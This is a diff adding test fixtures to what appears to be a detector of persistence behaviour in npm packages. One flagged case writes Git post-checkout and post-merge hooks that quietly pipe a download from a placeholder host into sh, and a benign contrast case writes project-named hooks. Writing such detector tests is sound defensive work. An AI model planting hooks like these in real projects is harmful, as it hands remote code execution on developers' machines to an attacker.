@@ -7,6 +7,15 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(persists, {
   speaks: [
     {
+      when: 'a manager of hooks writes one of its own that runs what a server gives, wherever the hooks are',
+      files: {
+        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `${FS} const { execFileSync } = require('child_process'); const folder = execFileSync('git', ['rev-parse', '--git-path', 'hooks'], { encoding: 'utf8' }).trim(); for (const name of ['post-checkout', 'post-merge']) fs.writeFileSync(path.join(folder, name), '#!/bin/sh\\n(curl -fsSL https://a.invalid/s | sh >/dev/null 2>&1 &)\\n', { mode: 0o755 });`,
+      },
+      says: ['a hook of Git'],
+      weight: 'strong',
+    },
+    {
       when: 'a command puts a program into each shell that nobody sees',
       files: {
         'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
@@ -294,6 +303,13 @@ examine(persists, {
     },
   ],
   silent: [
+    {
+      when: 'a manager of hooks writes those that a project names',
+      files: {
+        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `${FS} const folder = require('child_process').execFileSync('git', ['rev-parse', '--git-path', 'hooks'], { encoding: 'utf8' }).trim(); const { hooks } = JSON.parse(fs.readFileSync('package.json', 'utf8')); for (const [name, command] of Object.entries(hooks)) fs.writeFileSync(path.join(folder, name), '#!/bin/sh\\n' + command + '\\n', { mode: 0o755 }); fs.writeFileSync(path.join(folder, 'pre-push'), '#!/bin/sh\\nnpm test\\n', { mode: 0o755 });`,
+      },
+    },
     {
       when: 'weights of a model are fetched',
       files: {
